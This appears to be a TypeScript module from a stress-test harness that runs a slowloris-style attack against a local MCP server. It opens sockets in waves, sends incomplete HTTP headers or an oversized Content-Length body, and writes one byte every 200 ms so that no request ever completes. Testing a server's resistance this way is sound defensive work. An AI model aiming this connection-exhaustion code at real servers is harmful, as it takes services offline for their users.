// Requests that arrive a byte at a time: half in their headers, half in their body. None ever becomes whole.

import { type Attack, createTally, inWaves } from '../attack.ts';
import { open, requestText } from '../raw-client.ts';

const EVERY_MS = 200;

export const slowWriters: Attack = async ({ port, count, key }) => {
  const tally = createTally();
  const sockets = new Set<{ write(text: string): unknown; destroy(): void }>();
  await inWaves(count, 64, async (at) => {
    const socket = await open(port);
    if (socket === null) return tally.add('refused');
    sockets.add(socket);
    tally.add('opened');
    socket.write(
      at % 2 === 0
        ? 'POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: '
        : requestText({ key, headers: ['Content-Type: application/json', 'Content-Length: 1000000'] }),
    );
    socket.once('data', (answer: Buffer) => tally.add(`status ${answer.toString('latin1', 9, 12)}`));
    socket.once('close', () => {
      sockets.delete(socket);
      tally.add('ended');
    });
  });
  const timer = setInterval(() => {
    for (const socket of sockets) socket.write('x');
  }, EVERY_MS);
  return {
    tally: tally.read,
    release() {
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
};
